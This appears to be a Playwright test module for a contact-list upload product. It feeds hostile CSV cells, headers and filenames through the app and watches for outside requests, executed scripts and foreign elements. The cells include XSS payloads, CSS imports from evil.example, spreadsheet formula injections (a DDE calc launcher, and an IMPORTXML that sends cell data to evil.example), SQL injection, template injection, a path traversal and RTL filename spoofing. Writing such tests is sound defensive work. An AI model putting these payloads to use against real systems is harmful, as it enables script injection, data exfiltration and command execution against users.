"""Cells that are made to run, to load or to deceive, and a browser's way with them through the product."""

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass, field

import pyarrow.parquet as pq
from playwright.sync_api import ConsoleMessage, Dialog, Locator, Page, expect

from ingestion.rules.cells import clean
from ingestion.rules.formulas import unprotect
from tests.visiting import open_newest, register

CELLS = (
    "![image](http://evil.example/image.png)",
    "[link](http://evil.example/link)",
    "[script](javascript:window.hostile=1)",
    "http://evil.example/bare www.evil.example me@evil.example",
    "<img src=http://evil.example/tag.png onerror=window.hostile=1>",
    "<script>window.hostile=1</script>",
    "\"><svg onload=window.hostile=1><a href='http://evil.example'>x</a>",
    "</td></table></div><iframe src=http://evil.example/frame></iframe>",
    "<style>@import url(http://evil.example/style.css)</style>",
    "<b style='background:url(http://evil.example/background.png)'>bold</b>",
    ":red[red] :red-background[x] :smile: :material/home: :streamlit:",
    "$\\href{http://evil.example}{x}$ $$x^2$$ `code` **bold** _it_ ~~no~~",
    "# heading\n- list\n1. number\n> quote\n---\n| a | b |\n|---|---|",
    "&lt;script&gt; &amp; &#60;b&#62; &nbsp;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s %s",
    "'; DROP TABLE jobs; -- \" OR ''='",
    '=HYPERLINK("http://evil.example","click")',
    "=1+1",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+49 30 901820",
    "user\u202egnp.exe",
    "\u2066left\u2069 \u200bzero\u200dwidth\ufeff",
    "A\u0301\u0489\u0300 Z\u0351\u036b\u0343a\u0328l\u0357g\u0350o",
    "null",
    "line\r\nbreaks\rof\neach kind",
    "\u00a0",
    "\u0001\u001b[31mred\u001b[0m",
    "../../../../etc/passwd",
    "😀👩‍👩‍👧‍👦🏳️‍🌈 田中 الجزيرة",
)
HEADERS = (
    "![header](http://evil.example/header.png)",
    "<img src=http://evil.example/header-tag.png onerror=window.hostile=1>",
    '=HYPERLINK("http://evil.example/header")',
    "www.evil.example/header :red[x] :material/home:",
    "user\u202egnp.header",
)
FILENAME = "![f](www.evil.example) <img src=x onerror=window.hostile=1> :smile: $x$ \u202egnp.csv"
PERSON = "![p](http://evil.example/p.png)<b>:smile:"


def contact_list(cells: Sequence[str], headers: Sequence[str] = HEADERS) -> bytes:
    """A list with each cell as a name, as a company and in every other column, with issues of each kind."""
    file = io.StringIO()
    rows = csv.writer(file)
    rows.writerow(["email", "first_name", "last_name", "company", *headers])
    for number, cell in enumerate(cells):
        email, others = f"h{number}@example.com", [cell] * len(headers)
        rows.writerow([email, cell, "Berg", cell, *others])
        if number % 4 == 0:
            rows.writerow([email, f"{cell} and more", cell, "Acme", *others])
        if number % 6 == 0:
            rows.writerow([cell, "Ann", cell, cell, *others])
        if number % 12 == 0:
            rows.writerow([f"broken{number}@example.com", cell, cell, cell, *others, cell, cell])
    return file.getvalue().encode()


def contacts_of(parquet: bytes) -> list[list[str]]:
    """The contacts in an export, a blank as an empty text."""
    table = pq.read_table(io.BytesIO(parquet))
    return [
        list(row)
        for row in zip(*([cell or "" for cell in c.to_pylist()] for c in table.columns), strict=True)
    ]


def changed(cells: Sequence[str], contacts: list[list[str]]) -> list[str]:
    """The cells that are not in the contacts as they were sent: names cleaned, other columns as they came.

    An apostrophe before a formula is one that an export put there, and is taken off.
    """
    meant = map(unprotect, cells)
    by_email = {contact[0]: contact[1:] for contact in contacts}
    return [
        cell
        for number, cell in enumerate(meant)
        if (found := by_email.get(f"h{number}@example.com")) is None
        or found[0] != clean(cell)
        or found[2] != clean(cell)
        or any(other != cell for other in found[3:])
    ]


_FOREIGN = """address => [...document.querySelectorAll('a[href], img[src], script[src], iframe, object')]
    .map(element => element.href || element.src || element.outerHTML)
    .filter(url => !url.startsWith(address) && !url.startsWith('data:image/') && !url.startsWith('blob:'))
    .concat([...document.querySelectorAll('[onerror], [onload]')].map(element => element.outerHTML))
    .concat(window.hostile ? ['a script of a cell ran'] : [])"""


@dataclass
class Watch:
    """What a page does that it should not."""

    address: str
    store: str = ""
    requests: int = 0
    seen: list[str] = field(default_factory=list)
    """Requests to elsewhere, dialogs, errors of scripts, refusals by the policy, foreign elements."""
    pages: int = 0

    def over(self, page: Page) -> Page:
        """Watch a page from here on."""
        page.on("request", lambda request: self._request(request.url))
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.seen.append(f"script error: {error}"))
        page.on("console", self._console)
        return page

    def look(self, page: Page) -> None:
        """Look at what stands on the page now, once it has come to rest."""
        expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
        self.seen += [f"element: {one}" for one in page.evaluate(_FOREIGN, self.address)]
        self.pages += 1

    def _request(self, url: str) -> None:
        self.requests += 1
        if not url.startswith((self.address, "data:", "blob:")) and not (
            self.store and url.startswith(self.store)
        ):
            self.seen.append(f"request: {url}")

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "violates" in message.text:
            self.seen.append(f"refused by the policy: {message.text}")


@dataclass
class Visitor:
    """A person who goes through the product with hostile lists."""

    page: Page
    watch: Watch

    def register(self, email: str) -> None:
        """Make an account of a hostile name."""
        register(self.page, email, name=(PERSON, PERSON))

    def upload(self, name: str, content: bytes) -> int:
        """Send a file, its columns looked at on the way; the upload's id."""
        page = self.page
        page.goto("/")
        page.locator("input[type=file]").set_input_files(
            {"name": name, "mimeType": "text/csv", "buffer": content}
        )
        preview = page.get_by_text("Columns and preview")
        confirm = page.get_by_role("button", name="Use these columns")
        expect(preview.or_(confirm).first).to_be_visible()
        if not confirm.is_visible():
            preview.click()
            expect(confirm).to_be_visible()
        self.watch.look(page)
        confirm.click()
        send = page.get_by_role("button", name="Upload 1 file")
        expect(send).to_be_enabled()
        send.click()
        expect(page.get_by_text("1 file uploaded")).to_be_visible()
        self.watch.look(page)
        return open_newest(page)

    def issues(self, job: int, number: int) -> None:
        """Look at some issues, one by one."""
        self.page.goto(f"/upload?job={job}")
        expect(self.page.get_by_role("button", name=re.compile("Review"))).to_be_visible()
        self.watch.look(self.page)
        self.page.goto(f"/review?job={job}")
        for _ in range(number):
            expect(self.page.get_by_text(re.compile("issues? settled"))).to_be_visible()
            self.watch.look(self.page)
            following = self.page.get_by_role("button", name="Next").first
            if not following.is_enabled():
                break
            following.click()

    def settle(self, job: int) -> None:
        """Answer every issue, many at once, and finalize; a list without issues is finalized by itself."""
        page = self.page
        page.goto(f"/upload?job={job}")
        contacts = page.get_by_role("link", name="Download contacts")
        expect(contacts.or_(page.get_by_role("button", name=re.compile("^Review"))).first).to_be_visible()
        if contacts.is_visible():
            return
        for answer in (
            "Keep the first row of each group",
            "Accept as they are",
            "Leave all of these rows out",
        ):
            page.goto(f"/review?job={job}")
            expect(page.get_by_text(re.compile("issues? settled"))).to_be_visible()
            if page.get_by_text("Every issue is settled.").is_visible():
                break
            self._answer(answer)
        page.goto(f"/upload?job={job}")
        page.get_by_role("button", name="Finalize", exact=True).click()
        expect(contacts).to_be_visible()
        self.watch.look(page)

    def _answer(self, answer: str) -> None:
        page = self.page
        self._click("Answer many at once …", page)
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Answer", exact=True).click()
        page.get_by_role("option", name=answer).click()
        decide = dialog.get_by_role("button", name=re.compile("^Decide"))
        expect(decide).to_be_visible()
        self.watch.look(page)
        if decide.is_enabled():
            decide.click()
            expect(page.get_by_text("The history can undo it.")).to_be_visible()

    def look_around(self, job: int) -> None:
        """See the pages about a finished upload: history, outcome, contacts and their sources, summary."""
        page = self.page
        for path, text in (("history", "Choose a decision"), ("outcome", "What became of each row")):
            page.goto(f"/{path}?job={job}")
            expect(page.get_by_text(text).first).to_be_visible()
            self.watch.look(page)
        for kind in ("Left out", "Settled duplicates", "Repeats"):
            page.get_by_role("radio", name=kind).or_(page.get_by_role("button", name=kind)).first.click()
            self.watch.look(page)
        page.goto(f"/contacts?job={job}")
        page.get_by_test_id("stDataFrame").first.click(position={"x": 20, "y": 55})
        expect(page.get_by_text("Where this contact comes from")).to_be_visible()
        self.watch.look(page)
        page.goto(f"/downloads/{job}/summary.html")
        expect(page.get_by_text("Decisions by person")).to_be_visible()
        self.watch.seen += [f"element: {one}" for one in page.evaluate(_FOREIGN, self.watch.address)]

    def download(self, job: int, kind: str) -> bytes:
        """An export of the contacts."""
        answer = self.page.request.get(f"/downloads/{job}/contacts.{kind}")
        assert answer.status == 200, answer.text()
        return answer.body()

    def _click(self, button: str, within: Page | Locator) -> None:
        within.get_by_role("button", name=button).click()
